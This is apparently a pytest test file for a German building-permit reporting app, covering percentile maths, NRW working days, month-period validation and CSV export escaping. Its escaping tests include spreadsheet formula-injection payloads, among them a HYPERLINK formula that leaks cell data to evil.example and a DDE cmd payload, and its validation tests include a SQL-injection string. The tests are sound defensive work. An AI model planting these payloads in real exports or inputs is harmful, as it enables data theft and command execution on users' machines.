"""Percentiles, working days, the reporting period and the CSV cell rules — pure functions, no database."""

from __future__ import annotations

import datetime as dt
import statistics

import pytest
from django import forms

from bauantrag.reports.csv_export import cell, format_number, safe_text
from bauantrag.reports.periods import Month, PeriodForm, default_period, parse_month
from bauantrag.reports.stats import Summary, WorkingDays, percentile


def test_percentile_interpolates_linearly_between_the_closest_ranks() -> None:
    values = [float(v) for v in range(1, 11)]
    assert percentile(values, 0.9) == pytest.approx(9.1)  # position 8.1: 9 + 0.1 * (10 - 9)
    assert percentile(values, 0.5) == pytest.approx(5.5)
    assert percentile([25.0, 1.0, 7.0, 7.0], 0.9) == pytest.approx(19.6)  # unsorted input
    assert percentile([3.0], 0.9) == 3.0
    assert percentile([], 0.5) is None
    assert percentile([4.0, 8.0], 0.0) == 4.0 and percentile([4.0, 8.0], 1.0) == 8.0
    with pytest.raises(ValueError):
        percentile([1.0], 90)


@pytest.mark.parametrize("values", [[1.0, 2.0, 3.0, 4.0, 100.0], [0.5, 0.5, 2.0], [3.0, 1.0, 4.0, 1.0, 5.0, 9.0, 2.0]])
def test_percentile_is_the_inclusive_method_of_spreadsheets(values: list[float]) -> None:
    """Same as statistics.quantiles(method="inclusive"), i.e. QUANTIL.INKL / PERCENTILE.INC."""
    deciles = statistics.quantiles(values, n=10, method="inclusive")
    assert percentile(values, 0.9) == pytest.approx(deciles[8])
    assert percentile(values, 0.5) == pytest.approx(statistics.median(values))


def test_summary_of_no_values_has_no_median() -> None:
    assert Summary.of([]) == Summary(0, None, None)


def test_working_days_skip_weekends_and_nrw_holidays() -> None:
    days = WorkingDays()
    assert days.between(dt.date(2025, 1, 6), dt.date(2025, 1, 13)) == 5  # Monday to Monday
    assert days.between(dt.date(2025, 4, 16), dt.date(2025, 4, 23)) == 3  # Karfreitag, Ostermontag
    assert days.between(dt.date(2025, 6, 18), dt.date(2025, 6, 20)) == 1  # Fronleichnam 19.06.2025 (NRW)
    assert days.between(dt.date(2025, 1, 6), dt.date(2025, 1, 6)) == 0
    assert days.between(dt.date(2025, 1, 13), dt.date(2025, 1, 6)) == -5
    # Earlier and much later dates extend the table.
    assert days.between(dt.date(2020, 12, 23), dt.date(2020, 12, 28)) == 2  # Thu 24.12. and Mon 28.12. only
    assert days.between(dt.date(2030, 12, 30), dt.date(2031, 1, 2)) == 2  # Neujahr


def test_period_months_and_local_boundaries() -> None:
    form = PeriodForm({"von": "2025-11", "bis": "2026-02"}, today=dt.date(2026, 11, 26))
    assert form.is_valid(), form.errors
    period = form.period
    assert [m.iso() for m in period.months] == ["2025-11", "2025-12", "2026-01", "2026-02"]
    assert period.start.isoformat() == "2025-11-01T00:00:00+01:00"
    assert period.end.isoformat() == "2026-03-01T00:00:00+01:00"
    assert period.label() == "Nov 2025 – Feb 2026"


def test_the_default_period_is_the_last_twelve_months() -> None:
    form = PeriodForm({}, today=dt.date(2026, 11, 26))
    assert form.is_valid()
    assert (form.period.first, form.period.last) == (Month(2025, 12), Month(2026, 11))
    assert default_period(dt.date(2026, 1, 31)).first == Month(2025, 2)
    only_end = PeriodForm({"bis": "2025-06"}, today=dt.date(2026, 11, 26))
    assert only_end.is_valid() and only_end.period.first == Month(2024, 7)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"von": "2025-13"}, "Den Monat 13 gibt es nicht"),
        ({"von": "2025-00"}, "Den Monat 00 gibt es nicht"),
        ({"von": "März"}, "Format JJJJ-MM"),
        ({"bis": "2025-1"}, "Format JJJJ-MM"),
        ({"von": "2025-01-01"}, "Format JJJJ-MM"),
        ({"von": "1999-12"}, "zwischen 2000-01 und 2100-12"),
        ({"von": "2025-06", "bis": "2025-01"}, "darf nicht nach"),
        ({"von": "2000-01", "bis": "2015-01"}, "höchstens 120 Monate"),
        ({"von": "' OR 1=1 --"}, "Format JJJJ-MM"),
    ],
)
def test_bad_period_input_gives_a_german_message(data: dict[str, str], message: str) -> None:
    form = PeriodForm(data, today=dt.date(2026, 11, 26))
    assert not form.is_valid()
    assert message in " ".join(str(e) for errors in form.errors.values() for e in errors)


def test_parse_month_accepts_surrounding_blanks_only() -> None:
    assert parse_month(" 2026-03 ") == Month(2026, 3)
    with pytest.raises(forms.ValidationError):
        parse_month("2026-3")


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
     "  =1+2", " \t@x", "=cmd|'/c calc'!A1", "\uff1d1+1"],
)  # fmt: skip
def test_text_that_a_spreadsheet_would_evaluate_gets_a_quote(value: str) -> None:
    assert safe_text(value) == "'" + value
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["63-2025-00001", "Gesamt", "Eingang → Vollständigkeit", "a=b", "", "2025-03"])
def test_ordinary_text_stays_as_it_is(value: str) -> None:
    assert safe_text(value) == value


def test_numbers_we_compute_stay_numbers() -> None:
    assert cell(12.5) == "12,5" and cell(7) == "7" and cell(0.0) == "0,0"
    assert cell(-2.5) == "-2,5"  # a negative number we computed stays a number: no quote
    assert format_number(-3) == "-3"
    assert cell(None) == "" and cell(dt.date(2025, 3, 17)) == "2025-03-17"
    with pytest.raises(TypeError):
        cell(True)


@pytest.mark.parametrize(("value", "text"), [(0.25, "0,3"), (8.45, "8,5"), (8.449999, "8,4"), (2.675, "2,7")])
def test_csv_rounds_half_up_like_the_page(value: float, text: str) -> None:
    from django.template.defaultfilters import floatformat

    assert cell(value) == text
    assert floatformat(value, 1) == text  # the page's tables (German locale)
